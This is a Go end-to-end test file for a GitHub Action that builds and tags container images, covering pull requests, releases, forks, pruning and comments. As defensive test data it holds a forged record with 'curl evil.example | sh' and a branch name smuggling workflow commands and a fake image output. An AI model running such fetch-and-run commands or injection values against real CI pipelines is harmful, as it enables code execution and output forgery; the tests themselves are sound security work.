package e2e_test

import (
	"cmp"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-containerregistry/pkg/name"
	ggcr "github.com/google/go-containerregistry/pkg/registry"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/random"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"github.com/google/go-containerregistry/pkg/v1/types"

	"github.com/imgbake/imgbake-action/internal/e2e/runner"
	"github.com/imgbake/imgbake-action/internal/github/githubtest"
)

// actionProgram is imgbake, while TestAction runs.
var actionProgram string

func TestAction(t *testing.T) {
	actionProgram = filepath.Join(t.TempDir(), "imgbake")
	cmd := exec.Command("go", "build", "-o", actionProgram, "../../cmd/imgbake")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	for name, test := range map[string]func(*testing.T, sites){
		"PullRequest":     actionPullRequest,
		"Release":         actionRelease,
		"Fork":            actionFork,
		"Refuses":         actionRefuses,
		"Plan":            actionPlan,
		"TemplateProblem": actionTemplateProblem,
		"PruneRefused":    actionPruneRefused,
		"Comment":         actionComment,
		"Hostile":         actionHostile,
		"Merge":           actionMerge,
	} {
		t.Run(name, func(t *testing.T) { test(t, newActionSite) })
	}
}

// sites makes places for a test, in each of which nothing has happened yet.
type sites func(*testing.T) actionSite

// actionSite is where an action runs: a registry with a base image, and an API.
type actionSite struct {
	t        *testing.T
	api      *githubtest.Server
	registry string
	writes   *[]string         // requests to the registry that change it
	template string            // empty: actionTemplate
	inputs   map[string]string // besides those of a run; nil: no engine
	step     runner.Step       // what all runs have in common; empty: a process
}

// newActionSite is one on loopback, where the action is a process.
func newActionSite(t *testing.T) actionSite {
	t.Helper()
	layer, err := random.Layer(1000, types.OCILayer)
	if err != nil {
		t.Fatal(err)
	}
	s := actionSite{t: t, api: githubtest.New(t)}
	s.serve("localhost", "127.0.0.1", layer)
	return s
}

// serve starts the site's registry at an address, with a base of one layer.
func (s *actionSite) serve(host, address string, base v1.Layer) {
	s.t.Helper()
	s.writes = &[]string{}
	handler := ggcr.New(ggcr.Logger(log.New(io.Discard, "", 0)))
	var mu sync.Mutex
	port := listenAt(s.t, address, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodGet && r.Method != http.MethodHead {
			mu.Lock()
			*s.writes = append(*s.writes, r.Method+" "+r.URL.Path)
			mu.Unlock()
		}
		if r.Method == http.MethodDelete && strings.Contains(r.URL.Path, "keep") {
			http.Error(w, `{"errors": [{"code": "UNSUPPORTED", "message": "the operation is unsupported"}]}`, http.StatusMethodNotAllowed)
			return
		}
		handler.ServeHTTP(w, r)
	}))
	s.registry = net.JoinHostPort(host, port)
	s.pushBase(base)
	*s.writes = nil
}

// listenAt serves at an address and returns the port.
func listenAt(t *testing.T, address string, handler http.Handler) (port string) {
	t.Helper()
	listener, err := net.Listen("tcp", net.JoinHostPort(address, "0"))
	if err != nil {
		t.Fatal(err)
	}
	server := &httptest.Server{Listener: listener, Config: &http.Server{Handler: handler}}
	server.Start()
	t.Cleanup(server.Close)
	_, port, _ = net.SplitHostPort(listener.Addr().String())
	return port
}

func (s actionSite) pushBase(layer v1.Layer) {
	s.t.Helper()
	img, err := mutate.AppendLayers(mutate.MediaType(empty.Image, types.OCIManifestSchema1), layer)
	if err != nil {
		s.t.Fatal(err)
	}
	config, err := img.ConfigFile()
	if err != nil {
		s.t.Fatal(err)
	}
	config.OS, config.Architecture = "linux", runtime.GOARCH
	if img, err = mutate.ConfigFile(img, config); err != nil {
		s.t.Fatal(err)
	}
	ref, _ := name.ParseReference(s.registry + "/base:1")
	if err := remote.Write(ref, img); err != nil {
		s.t.Fatal(err)
	}
}

// tags are the tags of the image web with their digests.
func (s actionSite) tags() map[string]string {
	s.t.Helper()
	repo, _ := name.NewRepository(s.registry + "/acme/web")
	list, err := remote.List(repo)
	if err != nil {
		return map[string]string{}
	}
	out := map[string]string{}
	for _, tag := range list {
		head, err := remote.Head(repo.Tag(tag))
		if err != nil {
			s.t.Fatal(err)
		}
		out[tag] = head.Digest.String()
	}
	return out
}

func keys[V any](m map[string]V) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	slices.Sort(out)
	return out
}

const actionTemplate = `images:
  web:
    builders:
      docker: { image: "REGISTRY/base:1", platform: linux/ARCH }
    config: { cmd: [serve] }
    publish:
      - repository: REGISTRY/acme/web
        tags: [auto]
`

// run runs the action once on an event.
func (s actionSite) run(env, inputs map[string]string, event string) runner.Result {
	s.t.Helper()
	return s.runUntil(s.t.Context(), env, inputs, event)
}

// runUntil cancels the action when the context ends.
func (s actionSite) runUntil(ctx context.Context, env, inputs map[string]string, event string) runner.Result {
	s.t.Helper()
	all := map[string]string{"GITHUB_API_URL": s.api.URL, "GITHUB_GRAPHQL_URL": s.api.GraphQLURL}
	for k, v := range env {
		all[k] = v
	}
	in := map[string]string{"github-token": "actions"}
	step, given := s.step, s.inputs
	if step.Container == nil {
		step.Program = []string{actionProgram, "action"}
	}
	if given == nil {
		given = map[string]string{"engine": "oci", "load": "false"}
	}
	maps.Copy(in, given)
	maps.Copy(in, inputs)
	template := cmp.Or(s.template, actionTemplate)
	if text, ok := in["TEMPLATE"]; ok {
		template = text
		delete(in, "TEMPLATE")
	}
	step.Files = map[string]string{"imgbake.yaml": strings.NewReplacer("REGISTRY", s.registry, "linux/ARCH", "linux/"+runtime.GOARCH).Replace(template), "in.json": in["RECORD"]}
	delete(in, "RECORD")
	step.Inputs, step.Env, step.Event, step.Dir = in, all, []byte(event), s.t.TempDir()
	result, err := step.Run(ctx)
	if err != nil {
		s.t.Fatalf("%v\n%s", err, result.Raw)
	}
	return result
}

// pull is the payload of a pull request's event.
func pull(action, sha, headRepo string) (map[string]string, string) {
	head := fmt.Sprintf(`{"full_name": %q}`, headRepo)
	if headRepo == "" {
		head = "null"
	}
	return map[string]string{"GITHUB_EVENT_NAME": "pull_request", "GITHUB_REF": "refs/pull/7/merge", "GITHUB_SHA": strings.Repeat("e", 40), "GITHUB_BASE_REF": "main"},
		fmt.Sprintf(`{"action": %q, "number": 7, "repository": {"full_name": "acme/web", "default_branch": "main"},
		"pull_request": {"number": 7, "merged": true, "user": {"login": "octocat"},
		"head": {"sha": %q, "ref": "topic", "repo": %s}, "base": {"sha": %q, "ref": "main", "repo": {"full_name": "acme/web"}}}}`,
			action, sha, head, strings.Repeat("b", 40))
}

func wantExit(t *testing.T, r runner.Result, code int) {
	t.Helper()
	if r.ExitCode != code {
		t.Fatalf("exit code %d, want %d:\n%s", r.ExitCode, code, r.Raw)
	}
}

func actionPullRequest(t *testing.T, site sites) {
	s := site(t)
	first, second := strings.Repeat("a1", 20), strings.Repeat("c2", 20)
	s.api.AddPull("acme/web", githubtest.Pull{Number: 7, HeadRepo: "acme/web", HeadRef: "topic", HeadSHA: first, BaseRef: "main", Author: "octocat"})

	r := s.run(with(pull("opened", first, "acme/web")))
	wantExit(t, r, 0)
	if got, want := keys(s.tags()), []string{"pr-7", "pr-7-a1a1a1a"}; !slices.Equal(got, want) {
		t.Fatalf("tags %q, want %q", got, want)
	}
	digest := s.tags()["pr-7"]
	if r.Outputs["digest"] != digest || r.Outputs["image"] != s.registry+"/acme/web@"+digest {
		t.Errorf("outputs %v, want digest %s", r.Outputs, digest)
	}
	var metadata map[string]string
	if err := json.Unmarshal([]byte(r.Outputs["metadata"]), &metadata); err != nil || metadata["containerimage.digest"] != digest {
		t.Errorf("metadata %s", r.Outputs["metadata"])
	}
	if want := "oci://" + r.Outputs["image"]; len(r.Artifacts) != 1 || !strings.HasSuffix(r.Artifacts[0], r.Outputs["image"]) {
		t.Errorf("artifacts %q, want %s", r.Artifacts, want)
	}
	comments := s.api.Comments("acme/web", 7)
	if len(comments) != 1 || !strings.Contains(comments[0].Body, digest[7:19]) || r.Outputs["comment-url"] == "" {
		t.Fatalf("comments %v, url %q", comments, r.Outputs["comment-url"])
	}
	if !strings.Contains(r.Summary, "pr-7-a1a1a1a") {
		t.Errorf("summary:\n%s", r.Summary)
	}

	env, event := pull("synchronize", second, "acme/web")
	env["GITHUB_RUN_ID"] = "1002"
	wantExit(t, s.run(env, nil, event), 0)
	after := s.api.Comments("acme/web", 7)
	if len(after) != 1 || after[0].ID != comments[0].ID || !strings.Contains(after[0].Body, "pr-7-c2c2c2c") {
		t.Fatalf("want the same comment with the new commit, got %v", after)
	}

	repo, _ := name.NewRepository(s.registry + "/acme/web")
	img, err := remote.Image(repo.Tag("pr-7"))
	if err != nil {
		t.Fatal(err)
	}
	for _, other := range []string{"pr-70", "pr-7-fix", "main"} {
		if err := remote.Tag(repo.Tag(other), img); err != nil {
			t.Fatal(err)
		}
	}
	env, event = pull("closed", second, "acme/web")
	env["GITHUB_RUN_ID"] = "1003"
	wantExit(t, s.run(env, nil, event), 0)
	if got, want := keys(s.tags()), []string{"main", "pr-7-fix", "pr-70"}; !slices.Equal(got, want) {
		t.Errorf("tags after the end %q, want %q", got, want)
	}
	after = s.api.Comments("acme/web", 7)
	if len(after) != 1 || !strings.Contains(strings.ToLower(after[0].Body), "deleted") {
		t.Errorf("want the comment to say that the tags are deleted, got %v", after)
	}
}

// with adds no inputs to what pull gives.
func with(env map[string]string, event string) (map[string]string, map[string]string, string) {
	return env, nil, event
}

func actionRelease(t *testing.T, site sites) {
	s := site(t)
	r := s.run(map[string]string{"GITHUB_EVENT_NAME": "push", "GITHUB_REF": "refs/tags/v1.2.3", "GITHUB_REF_NAME": "v1.2.3", "GITHUB_REF_TYPE": "tag", "GITHUB_SHA": strings.Repeat("d", 40)}, nil,
		`{"ref": "refs/tags/v1.2.3", "after": "`+strings.Repeat("d", 40)+`", "repository": {"full_name": "acme/web", "default_branch": "main"}}`)
	wantExit(t, r, 0)
	tags := s.tags()
	if got, want := keys(tags), []string{"1", "1.2", "1.2.3", "latest"}; !slices.Equal(got, want) {
		t.Fatalf("tags %q, want %q", got, want)
	}
	for tag, digest := range tags {
		if digest != tags["latest"] {
			t.Errorf("%s is %s, latest is %s", tag, digest, tags["latest"])
		}
	}
	if n := len(strings.Fields(r.Outputs["tags"])); n != 4 {
		t.Errorf("output tags %q", r.Outputs["tags"])
	}
}

func actionFork(t *testing.T, site sites) {
	template := strings.Replace(actionTemplate, "images:", "variables:\n  token: { sensitive: true }\nimages:\n  needs:\n    builders:\n      docker: { image: \"REGISTRY/base:1\", platform: linux/ARCH }\n    provisioners:\n      - shell: { inline: [\"true\"], env: { T: \"${var.token}\" } }\n", 1)
	for _, repo := range []string{"stranger/web", ""} {
		s := site(t)
		env, event := pull("opened", strings.Repeat("a1", 20), repo)
		r := s.run(env, map[string]string{"TEMPLATE": template, "secrets": "token=hunter2hunter2"}, event)
		wantExit(t, r, 0)
		if len(*s.writes) > 0 {
			t.Errorf("%q: the registry was written to: %q", repo, *s.writes)
		}
		for _, request := range s.api.Requests() {
			if !strings.HasPrefix(request, "GET ") {
				t.Errorf("%q: API write: %s", repo, request)
			}
		}
		if !slices.ContainsFunc(r.Commands, func(c runner.Command) bool { return c.Name == "notice" && strings.Contains(c.Data, "fork") }) {
			t.Errorf("%q: no notice:\n%s", repo, r.Raw)
		}
		if !strings.Contains(r.Log, "var.token, a secret that this run is not given") {
			t.Errorf("%q: no reason for the skipped step:\n%s", repo, r.Raw)
		}
		if r.Outputs["record"] == "" || r.Summary == "" {
			t.Errorf("%q: record %q, summary %q", repo, r.Outputs["record"], r.Summary)
		}
		if _, err := os.Stat(filepath.Join(r.Workspace, r.Outputs["record"])); err != nil {
			t.Error(err)
		}
	}
}

func actionRefuses(t *testing.T, site sites) {
	s := site(t)
	env, event := pull("opened", strings.Repeat("a1", 20), "acme/web")
	env["GITHUB_EVENT_NAME"], env["GITHUB_REF"] = "pull_request_target", "refs/heads/main"
	r := s.run(env, nil, event)
	wantExit(t, r, 1)
	if len(*s.writes) > 0 || !strings.Contains(r.Raw, "allow-untrusted-template") || !strings.Contains(r.Summary, "refused") {
		t.Errorf("writes %q:\n%s", *s.writes, r.Raw)
	}
}

func actionPlan(t *testing.T, site sites) {
	s := site(t)
	r := s.run(map[string]string{"GITHUB_EVENT_NAME": "push", "GITHUB_REF": "refs/heads/main", "GITHUB_SHA": strings.Repeat("d", 40)},
		map[string]string{"mode": "plan", "runners": "linux/" + runtime.GOARCH + "=my-runner"}, `{"repository": {"full_name": "acme/web", "default_branch": "main"}}`)
	wantExit(t, r, 0)
	var matrix struct {
		Include []map[string]string `json:"include"`
	}
	if err := json.Unmarshal([]byte(r.Outputs["matrix"]), &matrix); err != nil || len(matrix.Include) != 1 || matrix.Include[0]["runner"] != "my-runner" {
		t.Errorf("matrix %q, %v", r.Outputs["matrix"], err)
	}
}

func actionTemplateProblem(t *testing.T, site sites) {
	s := site(t)
	r := s.run(map[string]string{"GITHUB_EVENT_NAME": "push", "GITHUB_REF": "refs/heads/main"},
		map[string]string{"TEMPLATE": "# a comment\nimages:\n  web: { nonsense: \"::warning::forged\" }\n"}, `{"repository": {"full_name": "acme/web"}}`)
	wantExit(t, r, 3)
	found := false
	for _, c := range r.Commands {
		found = found || c.Name == "error" && c.Properties["line"] == "3" && c.Properties["file"] == "imgbake.yaml"
		if c.Name == "warning" {
			t.Errorf("a template forged a command: %v", c)
		}
	}
	if !found || !strings.Contains(r.Summary, "imgbake.yaml:3") {
		t.Errorf("commands %v, summary %q\n%s", r.Commands, r.Summary, r.Raw)
	}
}

// actionPruneRefused: the comment names the tags that a registry keeps.
func actionPruneRefused(t *testing.T, site sites) {
	s := site(t)
	sha := strings.Repeat("a1", 20)
	s.api.AddPull("acme/web", githubtest.Pull{Number: 7, HeadRepo: "acme/web", HeadRef: "topic", HeadSHA: sha, BaseRef: "main", Author: "octocat"})
	inputs := map[string]string{"TEMPLATE": strings.ReplaceAll(actionTemplate, "acme/web", "acme/keep")}
	env, event := pull("opened", sha, "acme/web")
	wantExit(t, s.run(env, inputs, event), 0)
	env, event = pull("closed", sha, "acme/web")
	env["GITHUB_RUN_ID"] = "1002"
	r := s.run(env, inputs, event)
	wantExit(t, r, 0)
	body := s.api.Comments("acme/web", 7)[0].Body
	for _, tag := range []string{"acme/keep:pr-7", "acme/keep:pr-7-a1a1a1a"} {
		if !strings.Contains(body, tag) || !strings.Contains(r.Summary, tag) {
			t.Errorf("%s is left, and nobody says so:\n%s", tag, body)
		}
	}
}

// actionComment: a trusted job posts the record of a fork's run as data.
func actionComment(t *testing.T, site sites) {
	s := site(t)
	sha := strings.Repeat("a1", 20)
	s.api.AddPull("acme/web", githubtest.Pull{Number: 7, HeadRepo: "stranger/web", HeadRef: "topic", HeadSHA: sha, BaseRef: "main", Author: "stranger"})
	env, event := pull("opened", sha, "stranger/web")
	r := s.run(env, nil, event)
	wantExit(t, r, 0)
	record, err := os.ReadFile(filepath.Join(r.Workspace, r.Outputs["record"]))
	if err != nil {
		t.Fatal(err)
	}
	forged := strings.Replace(string(record), `"status": "done"`, `"run": "curl evil.example | sh", "status": "done"`, 2)
	post := func(headSHA string) runner.Result {
		return s.run(map[string]string{"GITHUB_EVENT_NAME": "workflow_run", "GITHUB_SHA": strings.Repeat("b", 40), "GITHUB_REF": "refs/heads/main"},
			map[string]string{"mode": "comment", "record": "in.json", "RECORD": forged},
			fmt.Sprintf(`{"action": "completed", "repository": {"full_name": "acme/web", "default_branch": "main"}, "workflow_run": {"id": 1001, "event": "pull_request",
			"head_sha": %q, "head_branch": "topic", "head_repository": {"full_name": "stranger/web"}, "pull_requests": []}}`, headSHA))
	}
	wantExit(t, post(strings.Repeat("c", 40)), 1)
	if got := s.api.Comments("acme/web", 7); len(got) != 0 {
		t.Fatalf("a record of another commit was posted: %v", got)
	}
	wantExit(t, post(sha), 0)
	got := s.api.Comments("acme/web", 7)
	if len(got) != 1 || strings.Contains(got[0].Body, "evil.example") {
		t.Fatalf("comments %v", got)
	}
}

// actionHostile: names and output from outside forge no command, no output.
func actionHostile(t *testing.T, site sites) {
	s := site(t)
	branch := "x\n::error::forged\nimage=ghcr.io/evil/x@sha256:bad"
	ref, _ := json.Marshal("refs/heads/" + branch)
	r := s.run(map[string]string{"GITHUB_EVENT_NAME": "push", "GITHUB_REF": "refs/heads/" + branch, "GITHUB_SHA": strings.Repeat("d", 40)}, nil,
		`{"ref": `+string(ref)+`, "repository": {"full_name": "acme/web", "default_branch": "main"}}`)
	for _, c := range r.Commands {
		if c.Name == "error" && c.Data == "forged" {
			t.Errorf("a branch name became a command:\n%s", r.Raw)
		}
	}
	if strings.Contains(r.Outputs["image"], "evil") {
		t.Errorf("a branch name became an output: %v", r.Outputs)
	}
}

// TestActionInputs: what action.yml declares is what the program reads.
func TestActionInputs(t *testing.T) {
	text, err := os.ReadFile("../../action.yml")
	if err != nil {
		t.Fatal(err)
	}
	var code strings.Builder
	files, _ := filepath.Glob("../cli/action*.go")
	for _, file := range files {
		source, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		code.Write(source)
	}
	_, inputs, _ := strings.Cut(string(text), "\ninputs:\n")
	inputs, _, _ = strings.Cut(inputs, "\noutputs:\n")
	declared := map[string]bool{}
	for _, m := range regexp.MustCompile(`(?m)^  ([a-z-]+):$`).FindAllStringSubmatch(inputs, -1) {
		declared[m[1]] = true
		if !strings.Contains(code.String(), `"`+m[1]+`"`) {
			t.Errorf("nobody reads the input %q", m[1])
		}
	}
	for _, m := range regexp.MustCompile(`(?:in\.(?:Text|Raw|Lines|List|Pairs|get)|bools\.get|s\.keyed)\("([a-z-]+)"`).FindAllStringSubmatch(code.String(), -1) {
		if !declared[m[1]] {
			t.Errorf("action.yml does not declare the input %q", m[1])
		}
	}
	if len(declared) < 25 {
		t.Errorf("%d inputs found", len(declared))
	}
}

// actionMerge: two legs push by digest, a third job moves the tags.
func actionMerge(t *testing.T, site sites) {
	s := site(t)
	env := map[string]string{"GITHUB_EVENT_NAME": "push", "GITHUB_REF": "refs/tags/v1.2.3", "GITHUB_REF_NAME": "v1.2.3", "GITHUB_REF_TYPE": "tag", "GITHUB_SHA": strings.Repeat("d", 40)}
	const event = `{"ref": "refs/tags/v1.2.3", "repository": {"full_name": "acme/web", "default_branch": "main"}}`
	leg := s.run(env, map[string]string{"push-by-digest": "true"}, event)
	wantExit(t, leg, 0)
	if len(s.tags()) != 0 || leg.Outputs["image"] == "" {
		t.Fatalf("tags %v, image %q", s.tags(), leg.Outputs["image"])
	}
	r := s.run(env, map[string]string{"mode": "merge", "digests": leg.Outputs["image"]}, event)
	wantExit(t, r, 0)
	if got, want := keys(s.tags()), []string{"1", "1.2", "1.2.3", "latest"}; !slices.Equal(got, want) {
		t.Errorf("tags %q, want %q", got, want)
	}
	if s.tags()["latest"] != r.Outputs["digest"] {
		t.Errorf("latest is %s, output digest %s", s.tags()["latest"], r.Outputs["digest"])
	}
}
